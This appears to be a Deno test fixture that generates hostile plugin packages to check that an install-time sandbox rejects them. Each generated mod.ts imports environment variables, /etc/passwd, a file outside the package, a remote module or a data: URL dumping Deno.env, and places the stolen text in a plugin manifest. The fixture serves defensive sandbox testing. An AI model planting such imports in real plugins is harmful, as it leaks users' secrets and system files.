/**
 * Hostile plugin packages, written from one template: a package whose only
 * module imports something from outside itself (`/proc/self/environ`,
 * `/etc/passwd`, a path out of the package, a remote or `data:` module) and
 * would carry what it read in its manifest, if it were ever bundled. The
 * install-time sandbox must refuse each one before bundling.
 *
 * @module
 */

import { relative } from "node:path";

/** The attacks {@link writeHostilePackage} knows by name. */
export type HostileAttack = "environ" | "passwd" | "escape" | "remote" | "data";

/** What a hostile package's `mod.ts` imports. */
export interface HostileImport {
  /** The import specifier, as written in `mod.ts`. */
  specifier: string;
  /** The import attribute `type` (`text`, `json`), if any. */
  type?: string;
}

/** The project's own `deno.json`, which the `escape` attack reaches with a relative path out of the package. */
const PROJECT_CONFIG = new URL("../../deno.json", import.meta.url).pathname;

/**
 * What each attack imports, for a package in `dir`.
 *
 * @param attack The attack.
 * @param dir The package directory (absolute), from which `escape` climbs to the project's `deno.json`.
 * @returns The import.
 */
export function hostileImport(attack: HostileAttack, dir: string): HostileImport {
  switch (attack) {
    case "environ":
      return { specifier: "/proc/self/environ", type: "text" };
    case "passwd":
      return { specifier: "/etc/passwd", type: "text" };
    case "escape":
      return { specifier: relative(dir, PROJECT_CONFIG), type: "json" };
    case "remote":
      return { specifier: "https://example.com/stolen.js" };
    case "data":
      return { specifier: "data:text/javascript,export default Deno.env.toObject();" };
  }
}

/** A hostile package written by {@link writeHostilePackage}. */
export interface HostilePackage {
  /** Its directory (absolute). */
  dir: string;
  /** Its package name, `@imbi-test/hostile-<attack>`. */
  name: string;
  /** Its one entry point's slug, `hostile-<attack>`. */
  slug: string;
  /** What its `mod.ts` imports. */
  import: HostileImport;
}

/**
 * Writes a hostile package (`deno.json` and `mod.ts`) into `<parent>/hostile-<attack>`.
 *
 * @param parent An existing directory, e.g. a test's temporary directory.
 * @param attack A named attack, or any import to make `mod.ts` start with (named `custom`).
 * @returns The package.
 * @example
 * ```ts
 * await using tmp = await tempDir();
 * const pkg = await writeHostilePackage(tmp.path, "environ");
 * await jsr.publish(pkg.name, "1.0.0", pkg.dir);
 * ```
 */
export async function writeHostilePackage(
  parent: string,
  attack: HostileAttack | HostileImport,
): Promise<HostilePackage> {
  const slug = `hostile-${typeof attack === "string" ? attack : "custom"}`;
  const dir = `${parent}/${slug}`;
  await Deno.mkdir(dir, { recursive: true });
  const imported = typeof attack === "string" ? hostileImport(attack, dir) : attack;
  const name = `@imbi-test/${slug}`;
  const attributes = imported.type ? ` with { type: ${JSON.stringify(imported.type)} }` : "";
  await Deno.writeTextFile(
    `${dir}/deno.json`,
    `${JSON.stringify({ name, version: "1.0.0", exports: "./mod.ts" }, null, 2)}\n`,
  );
  await Deno.writeTextFile(
    `${dir}/mod.ts`,
    `import stolen from ${JSON.stringify(imported.specifier)}${attributes};

/** A plugin whose manifest would carry what the import read, if it were bundled. */
export class Hostile {
  static manifest = {
    slug: ${JSON.stringify(slug)},
    name: "Hostile",
    description: String(stolen).slice(0, 200),
    plugin_type: "configuration",
    api_version: "^1.0.0",
    network: { hosts: [] },
  };
}

export const plugins = [Hostile];
`,
  );
  return { dir, name, slug, import: imported };
}
